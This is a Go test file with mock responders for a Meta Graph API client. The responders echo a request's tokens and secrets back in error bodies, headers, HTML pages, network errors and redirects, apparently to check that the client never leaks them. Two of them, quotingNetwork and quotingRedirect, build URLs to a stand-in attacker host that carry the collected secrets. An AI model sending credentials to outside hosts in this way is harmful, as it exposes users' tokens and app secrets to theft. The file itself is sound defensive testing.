package promises_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"strings"
)

// secretParams are the names of parameters that hold secrets.
var secretParams = []string{
	"access_token", "appsecret_proof", "client_secret", "code", "fb_exchange_token", "input_token", "pin", "verify_token",
}

// quotedSecrets returns a text with all secrets of a request, as an error text of
// Meta can quote them: unchanged, as in a URL, and as PHP writes them in JSON.
func quotedSecrets(req *http.Request, body []byte) string {
	var found []string
	if _, token, ok := strings.Cut(req.Header.Get("Authorization"), " "); ok {
		found = append(found, token)
		if _, secret, ok := strings.Cut(token, "|"); ok { // an app's token ends in its secret
			found = append(found, secret)
		}
	}
	form, _ := url.ParseQuery(string(body))
	for _, values := range []url.Values{req.URL.Query(), form} {
		for _, name := range secretParams {
			found = append(found, values[name]...)
		}
	}
	var quotes []string
	for _, text := range found {
		quotes = append(quotes, text, url.QueryEscape(text), strings.ReplaceAll(text, "/", `\/`))
	}
	return "Malformed access token " + strings.Join(quotes, " and ")
}

// quoting answers with an error object that quotes the request in each text.
func quoting(w *wire, req *http.Request, body []byte) (*http.Response, error) {
	text := quotedSecrets(req, body)
	object, _ := json.Marshal(map[string]any{"error": map[string]any{
		"code": 190, "error_subcode": 463, "message": text, "type": text, "fbtrace_id": text, "error_user_title": text,
		"error_user_msg": text, "is_transient": text,
		"error_data": map[string]any{"details": text, "blame_field": text, "blame_field_specs": [][]string{{text, text}}},
	}})
	return answers(http.StatusUnauthorized, jsonT, string(object))(w, req, body)
}

// quotingText answers with a short error object that has a text as its data.
func quotingText(w *wire, req *http.Request, body []byte) (*http.Response, error) {
	text := quotedSecrets(req, body)
	object, _ := json.Marshal(map[string]any{"error": map[string]any{"code": "190", "message": text, "error_data": text}})
	return answers(http.StatusBadRequest, jsonT, string(object))(w, req, body)
}

// quotingAnswer answers with status 200 and with texts that cannot be decoded.
func quotingAnswer(w *wire, req *http.Request, body []byte) (*http.Response, error) {
	text := quotedSecrets(req, body)
	object, _ := json.Marshal(map[string]any{
		"data": text, "id": map[string]string{"id": text}, "success": text, "access_token": []string{text}, "expires_in": text,
	})
	return answers(http.StatusOK, jsonT, string(object))(w, req, body)
}

func quotingPage(w *wire, req *http.Request, body []byte) (*http.Response, error) {
	return answers(http.StatusBadGateway, htmlT, "<h1>"+quotedSecrets(req, body)+"</h1>")(w, req, body)
}

func quotingHeaders(w *wire, req *http.Request, body []byte) (*http.Response, error) {
	text := quotedSecrets(req, body)
	resp, err := answers(http.StatusInternalServerError, text, "")(w, req, body)
	for _, name := range []string{
		"X-Fb-Trace-Id", "X-Fb-Debug", "Facebook-Api-Version", "Www-Authenticate", "Location", "Retry-After", "Server", "Set-Cookie",
	} {
		resp.Header.Set(name, text)
	}
	usage, _ := json.Marshal(map[string]any{text: []map[string]any{{"type": text, "call_count": 7}}})
	resp.Header.Set("X-Business-Use-Case-Usage", string(usage))
	resp.Status = "500 " + text
	return resp, err
}

func quotingNetwork(_ *wire, req *http.Request, body []byte) (*http.Response, error) {
	quoted := errors.New("proxy said: " + quotedSecrets(req, body))
	return nil, fmt.Errorf("gateway: %w", &url.Error{Op: "Get", URL: "https://attacker.example/?" + quotedSecrets(req, body), Err: quoted})
}

func quotingRedirect(w *wire, req *http.Request, body []byte) (*http.Response, error) {
	return redirects(http.StatusFound, "https://attacker.example/%zz?"+quotedSecrets(req, body))(w, req, body)
}
